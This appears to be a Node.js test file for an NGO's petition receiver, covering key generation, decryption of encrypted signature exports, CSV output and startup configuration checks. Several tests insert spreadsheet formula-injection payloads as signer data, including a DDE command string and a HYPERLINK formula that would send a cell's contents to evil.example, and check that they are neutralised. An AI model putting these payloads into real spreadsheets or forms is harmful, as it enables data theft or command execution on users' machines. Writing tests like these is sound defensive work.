// The NGO's tools (keygen, decrypt, token) and the start command's refusals, run as the documented commands run them.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { TOKEN, embeddedDataDir, exportRows, keyPair, lib, receiverDir, sign, spreadsheetCells, tempDir } from './helpers.mjs';

const tools = join(receiverDir, 'dist/tools.js');
const main = join(receiverDir, 'dist/main.js');
const run = (script, args, options = {}) => spawnSync(process.execPath, [script, ...args], { encoding: 'utf8', cwd: receiverDir, ...options });

describe('NGO tools', () => {
  it('keygen writes a private key file (mode 600), prints the public key, never overwrites', () => {
    const dir = tempDir();
    const out = run(tools, ['keygen'], { env: { ...process.env, INIT_CWD: dir } });
    assert.equal(out.status, 0, out.stderr);
    const file = join(dir, 'petition-secret-key.json');
    const key = JSON.parse(readFileSync(file, 'utf8'));
    assert.equal(statSync(file).mode & 0o777, 0o600);
    assert.equal(Buffer.from(key.public_key, 'base64').length, 32);
    assert.equal(Buffer.from(key.secret_key, 'base64').length, 32);
    assert.ok(out.stdout.includes(key.public_key));
    assert.equal(out.stdout.includes(key.secret_key), false, 'the secret key is not printed');
    const again = run(tools, ['keygen'], { env: { ...process.env, INIT_CWD: dir } });
    assert.notEqual(again.status, 0);
    assert.match(again.stderr, /never overwrites/);
    assert.equal(JSON.parse(readFileSync(file, 'utf8')).secret_key, key.secret_key);
  });

  it('token prints a fresh random secret', () => {
    const a = run(tools, ['token']).stdout.trim();
    const b = run(tools, ['token']).stdout.trim();
    assert.match(a, /^[A-Za-z0-9_-]{43}$/);
    assert.notEqual(a, b);
  });

  it('decrypt opens an export with the key file, and its CSV is safe from formula injection too', async () => {
    const dir = tempDir();
    assert.equal(run(tools, ['keygen', '--out', 'k.json'], { env: { ...process.env, INIT_CWD: dir } }).status, 0);
    const key = JSON.parse(readFileSync(join(dir, 'k.json'), 'utf8'));
    const r = await lib.startReceiver({ port: 0, publicKey: key.public_key, token: TOKEN, dataDir: await embeddedDataDir(), log: () => {} });
    try {
      const evil = {
        given_name: "=cmd|' /C calc'!A0",
        family_name: '@SUM(1+1)',
        email: 'ada@example.org',
        country: 'GB',
        postal_code: '+44',
        phone: '+44 20 7946 0958',
      };
      const a = await sign(r.url, 'osdi', { signer: evil, consent: { given: true }, tags: ['x', 'y'], source_code: 'src' });
      const b = await sign(r.url, 'form', { signer: { given_name: 'Bob', email: 'bob@example.org' } });
      const csv = await (await fetch(`${r.url}/export`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
      writeFileSync(join(dir, 'export.csv'), csv);
      const out = run(tools, ['decrypt', '--key', 'k.json', 'export.csv'], { env: { ...process.env, INIT_CWD: dir } });
      assert.equal(out.status, 0, out.stderr);
      const [header, ...rows] = lib.parseCsv(out.stdout);
      const objects = rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])));
      const first = objects.find((row) => row.submission_id === a.id);
      assert.equal(first.given_name, `'=cmd|' /C calc'!A0`);
      assert.equal(first.family_name, `'@SUM(1+1)`);
      assert.equal(first.postal_code, `'+44`);
      assert.equal(first.phone, `'+44 20 7946 0958`);
      assert.equal(first.email, 'ada@example.org');
      assert.equal(first.tags, 'x,y');
      assert.equal(first.source_code, 'src');
      assert.equal(first.format, 'osdi');
      assert.equal(first.consent_given, 'true');
      assert.equal(objects.find((row) => row.submission_id === b.id).given_name, 'Bob');
      // From standard input, as in `curl … | npm run --silent --prefix receiver decrypt -- --key k.json`:
      const piped = spawnSync(process.execPath, [tools, 'decrypt', '--key', join(dir, 'k.json')], { input: csv, encoding: 'utf8' });
      assert.equal(piped.stdout, out.stdout);
      // Into a file only the NGO's user can read, as the README shows (`--out`), from standard input too.
      const saved = spawnSync(process.execPath, [tools, 'decrypt', '--key', 'k.json', '--out', 'signatures.csv'], {
        input: csv,
        encoding: 'utf8',
        env: { ...process.env, INIT_CWD: dir },
      });
      assert.equal(saved.status, 0, saved.stderr);
      assert.equal(saved.stdout, '', 'nothing in clear on the terminal');
      assert.match(saved.stderr, /2 signature\(s\) written to .*signatures\.csv \(readable by you only\)/);
      assert.equal(readFileSync(join(dir, 'signatures.csv'), 'utf8'), out.stdout);
      assert.equal(statSync(join(dir, 'signatures.csv')).mode & 0o777, 0o600);
      // Another key cannot open them.
      assert.equal(run(tools, ['keygen', '--out', 'other.json'], { env: { ...process.env, INIT_CWD: dir } }).status, 0);
      const wrong = run(tools, ['decrypt', '--key', 'other.json', 'export.csv'], { env: { ...process.env, INIT_CWD: dir } });
      assert.equal(wrong.status, 2);
      assert.match(wrong.stderr, /2 row\(s\) could not be opened/);
      assert.equal((await exportRows(r.url)).length, 2);
    } finally {
      await r.close();
    }
  });

  it('decrypt and export: no cell starts a formula, whether a spreadsheet splits them at commas, semicolons or tabs', async () => {
    const dir = tempDir();
    assert.equal(run(tools, ['keygen', '--out', 'k.json'], { env: { ...process.env, INIT_CWD: dir } }).status, 0);
    const key = JSON.parse(readFileSync(join(dir, 'k.json'), 'utf8'));
    const r = await lib.startReceiver({ port: 0, publicKey: key.public_key, token: TOKEN, dataDir: await embeddedDataDir(), log: () => {} });
    try {
      // Harmless in a comma-separated reading (one cell each, starting with a letter); split at ";" (the separator
      // of many European locales) or at a tab, each would start a cell with a formula.
      const a = await sign(r.url, 'json', {
        signer: {
          given_name: 'Anna;=HYPERLINK("http://evil.example/?"&A1,"Open")',
          family_name: "Okoro;=cmd|' /C calc'!A0",
          email: 'anna@example.org',
          postal_code: 'EC1;@SUM(1+1)',
        },
        consent: { given: true, text: 'I agree;+1+1' },
        tags: ['campaign', '-2+3'],
        source_code: 'news;-letter',
      });
      assert.equal(a.status, 201);
      const exported = await (await fetch(`${r.url}/export`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
      writeFileSync(join(dir, 'export.csv'), exported);
      const out = run(tools, ['decrypt', '--key', 'k.json', 'export.csv'], { env: { ...process.env, INIT_CWD: dir } });
      assert.equal(out.status, 0, out.stderr);
      for (const [name, csv] of [
        ['export', exported],
        ['decrypted', out.stdout],
      ]) {
        for (const separator of [',', ';', '\t']) {
          const formulas = spreadsheetCells(csv, separator)
            .filter((cell) => /^[=+\-@\t\r\n]/.test(cell))
            .map((cell) => cell.slice(0, 40));
          assert.deepEqual(formulas, [], `${name}, read with ${JSON.stringify(separator)} as the separator`);
        }
      }
      // Read as the comma-separated file it is, each value is whole, the apostrophe showing where a cell could have begun.
      const [header, ...rows] = lib.parseCsv(out.stdout);
      const row = Object.fromEntries(header.map((column, i) => [column, rows.find((cells) => cells[1] === a.id)[i]]));
      assert.equal(row.given_name, `Anna;'=HYPERLINK("http://evil.example/?"&A1,"Open")`);
      assert.equal(row.family_name, `Okoro;'=cmd|' /C calc'!A0`);
      assert.equal(row.postal_code, `EC1;'@SUM(1+1)`);
      assert.equal(row.consent_text, `I agree;'+1+1`);
      assert.equal(row.tags, `campaign,'-2+3`);
      assert.equal(row.source_code, `news;'-letter`);
      assert.equal(row.email, 'anna@example.org');
    } finally {
      await r.close();
    }
  });
});

describe('starting the receiver', () => {
  const env = { PATH: process.env.PATH, HOME: process.env.HOME };

  it('without a public key: does not start, and says exactly what to run', () => {
    const out = run(main, [], { env, cwd: tempDir() });
    assert.equal(out.status, 1);
    assert.match(out.stderr, /No public key is configured/);
    assert.match(out.stderr, /npm run --prefix receiver keygen/);
    assert.match(out.stderr, /RECEIVER_PUBLIC_KEY=/);
  });

  it('a bad setting: does not start, and names it', () => {
    const out = run(main, [], {
      env: { ...env, RECEIVER_PUBLIC_KEY: 'x', RECEIVER_ALLOWED_ORIGINS: 'https://ngo.example/page', RECEIVER_REQUIRED: 'email,shoe_size' },
      cwd: tempDir(),
    });
    assert.equal(out.status, 1);
    assert.match(out.stderr, /allowedOrigins: "https:\/\/ngo.example\/page" is not an origin/);
    assert.match(out.stderr, /required: "shoe_size"/);
    assert.match(out.stderr, /publicKey: the public key must be 32 bytes in base64/);
  });

  it('a token that could never be sent, a short one, a public address in http: does not start, and names them', () => {
    const publicKey = keyPair().publicKey;
    const mail = { RECEIVER_SMTP_URL: 'smtp://127.0.0.1:2525', RECEIVER_MAIL_FROM: 'campaign@ngo.example' };
    const spaced = run(main, [], {
      env: { ...env, ...mail, RECEIVER_PUBLIC_KEY: publicKey, RECEIVER_TOKEN: 'correct horse battery staple', RECEIVER_PUBLIC_URL: 'http://sign.ngo.example' },
      cwd: tempDir(),
      // Were they accepted, the receiver would start and keep running.
      timeout: 30_000,
    });
    assert.equal(spaced.status, 1);
    assert.match(spaced.stderr, /token: use letters, digits and punctuation only, no spaces/);
    assert.match(spaced.stderr, /doubleOptIn\.publicUrl: "http:\/\/sign\.ngo\.example" is not an https:\/\/ address/);
    const short = run(main, [], { env: { ...env, RECEIVER_PUBLIC_KEY: publicKey, RECEIVER_TOKEN: 'a'.repeat(19) }, cwd: tempDir(), timeout: 30_000 });
    assert.equal(short.status, 1);
    assert.match(short.stderr, /token: use at least 24 random characters/);
    for (const publicUrl of ['https://sign.ngo.example/', 'http://127.0.0.1:8787', 'http://localhost:8787/receiver']) {
      const config = lib.resolveConfig({ publicKey, token: TOKEN, doubleOptIn: { smtp: 'smtp://127.0.0.1', from: 'a@ngo.example', publicUrl } });
      assert.equal(config.doubleOptIn.publicUrl, publicUrl.replace(/\/$/, ''));
    }
    for (const publicUrl of ['sign.ngo.example', 'https://sign.ngo.example/?a=1', 'https://user:pw@sign.ngo.example', 'ftp://sign.ngo.example'])
      assert.throws(() => lib.resolveConfig({ publicKey, doubleOptIn: { smtp: 'smtp://127.0.0.1', from: 'a@ngo.example', publicUrl } }), /publicUrl/);
  });

  it('a port already in use: does not start, and says so in one line', async () => {
    const busy = createServer();
    await new Promise((resolve) => busy.listen(0, '127.0.0.1', resolve));
    try {
      const out = run(main, [], { env: { ...env, RECEIVER_PUBLIC_KEY: keyPair().publicKey, RECEIVER_PORT: String(busy.address().port) }, cwd: tempDir() });
      assert.equal(out.status, 1);
      assert.equal(
        out.stderr.trim(),
        `receiver: 127.0.0.1:${busy.address().port} is in use (another receiver, or another program): stop it or set RECEIVER_PORT`,
      );
    } finally {
      busy.close();
    }
  });

  it('a database whose retention purge fails: does not start, and says why in one line, without what the database quoted', async () => {
    const publicKey = keyPair().publicKey;
    const dataDir = await embeddedDataDir();
    const r = await lib.startReceiver({ port: 0, publicKey, dataDir, fsync: false, log: () => {} });
    const marker = `m${Date.now()}`;
    assert.equal((await sign(r.url, 'json', { consent: { given: true, text: `I agree ${marker}` } })).status, 201);
    await r.store.db.query(`UPDATE cw_signatures SET received_at = received_at - interval '400 days'`);
    // The purge fails: a trigger refuses the DELETE with a message that quotes the row, as a database's message can.
    await r.store.db.query(
      `CREATE FUNCTION cw_refuse() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'cannot delete %', OLD.consent_text; END $$`,
    );
    await r.store.db.query(`CREATE TRIGGER cw_refuse BEFORE DELETE ON cw_signatures FOR EACH ROW EXECUTE FUNCTION cw_refuse()`);
    await r.close();
    const out = run(main, [], {
      env: { ...env, RECEIVER_PUBLIC_KEY: publicKey, RECEIVER_DATA_DIR: dataDir, RECEIVER_RETENTION_DAYS: '365', RECEIVER_PORT: '0' },
      cwd: tempDir(),
      // Were it to start, it would keep running.
      timeout: 60_000,
    });
    assert.equal(out.status, 1);
    assert.match(
      out.stderr,
      /^receiver: not started: the housekeeping it does before serving failed: error P0001 at .+, while deleting the signatures older than the retention \(365 days\)\. It serves only once that succeeds .+\n$/,
    );
    assert.equal(out.stderr.includes(marker), false, `not what the database quoted: ${out.stderr}`);
  });

  it('a config file (receiver.config.json) with the environment over it', () => {
    const dir = tempDir();
    const fromFile = keyPair().publicKey;
    const fromEnv = keyPair().publicKey;
    writeFileSync(
      join(dir, 'receiver.config.json'),
      JSON.stringify({ publicKey: fromFile, allowedOrigins: ['https://a.example'], dataDir: 'signatures', countMaxAge: 30 }),
    );
    const config = lib.loadConfig({ RECEIVER_PUBLIC_KEY: fromEnv, RECEIVER_COUNT_MAX_AGE: '60' }, dir);
    assert.equal(config.publicKey, fromEnv);
    assert.deepEqual(config.allowedOrigins, ['https://a.example']);
    assert.equal(config.dataDir, join(dir, 'signatures'), 'relative to the file');
    assert.equal(config.countMaxAge, 60);
    assert.equal(existsSync(join(dir, 'signatures')), false, 'loading settings creates nothing');
  });

  it('a config file: lists written as the environment takes them, and a setting it does not know named', () => {
    const dir = tempDir();
    const publicKey = keyPair().publicKey;
    writeFileSync(join(dir, 'mine.json'), JSON.stringify({ publicKey, allowedOrigins: 'https://a.example, https://b.example', required: 'email' }));
    // A relative RECEIVER_CONFIG is found from the folder the command was typed in (npm runs us in receiver/).
    const config = lib.loadConfig({ RECEIVER_CONFIG: 'mine.json', INIT_CWD: dir }, tempDir());
    assert.deepEqual(config.allowedOrigins, ['https://a.example', 'https://b.example']);
    assert.deepEqual(config.required, ['email']);

    writeFileSync(join(dir, 'receiver.config.json'), JSON.stringify({ publicKey, smtpUrl: 'smtp://mail.example', doubleOptIn: { mailFrom: 'a@b.example' } }));
    assert.throws(
      () => lib.loadConfig({}, dir),
      /does not know: smtpUrl, doubleOptIn\.mailFrom\. Known: .*allowedOrigins.*in doubleOptIn: smtp, from, publicUrl/,
    );
  });
});
